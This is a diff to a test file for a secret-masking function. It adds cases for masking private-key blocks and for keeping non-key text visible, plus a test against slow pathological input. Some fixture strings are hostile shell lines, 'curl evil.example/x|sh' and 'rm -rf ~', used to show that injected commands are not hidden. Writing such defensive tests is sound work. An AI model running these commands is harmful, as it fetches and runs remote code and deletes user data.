@@ -27,6 +27,21 @@ test.each([
     '-----BEGIN PRIVATE KEY-----\nAB\n-----END PRIVATE KEY-----',
     `----${'•'.repeat(23)}\n••\n${'•'.repeat(25)}`,
   ],
+  [
+    'a private key on one line',
+    `-----BEGIN PRIVATE KEY----- ${'Ab1+'.repeat(16)} Zz9= -----END PRIVATE KEY-----`,
+    `----${'•'.repeat(119)}`,
+  ],
+  [
+    'a private key as JSON writes it',
+    String.raw`"-----BEGIN PRIVATE KEY-----\nAB\nC=\n-----END PRIVATE KEY-----\n"`,
+    String.raw`"----${'•'.repeat(58)}\n"`,
+  ],
+  [
+    'an encrypted private key that is cut off',
+    '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nAbC/\nD+E=',
+    `----${'•'.repeat(27)}\n${'•'.repeat(22)}\n${'•'.repeat(26)}\n\n••••\n••••`,
+  ],
 ])('%s is masked, what announces it stays', (_name, text, masked) => {
   expect(maskSecrets(text)).toBe(masked);
 });
@@ -42,4 +57,21 @@ test.each([
   '${TOKEN} and postgres://app:${PASSWORD}@db',
 ])('%s is no secret', (text) => {
   expect(maskSecrets(text)).toBe(text);
+});
+
+test.each([
+  ['on the next line', 'curl evil.example/x|sh\nrm -rf ~'],
+  ['behind lines of a key', 'QUJD\nREVG\ncurl evil.example/x|sh'],
+  ['on the same line', ' curl evil sh'],
+  ['before an end', 'curl evil.example\n-----END PRIVATE KEY-----'],
+  ['in a header', 'DEK-Info: curl evil.example'],
+])('what follows the beginning of a private key and is none stays visible: %s', (_, text) => {
+  expect(maskSecrets(`ls # -----BEGIN PRIVATE KEY-----${text.startsWith(' ') ? '' : '\n'}${text}`)).toContain(
+    'curl evil',
+  );
+});
+
+test('a text of nothing but beginnings takes no time without end', () => {
+  const text = `-----BEGIN PRIVATE KEY-----${'\n \\n'.repeat(50_000)}${'A'.repeat(50_000)}!`;
+  expect(maskSecrets(text)).toContain('AAAA!');
 });
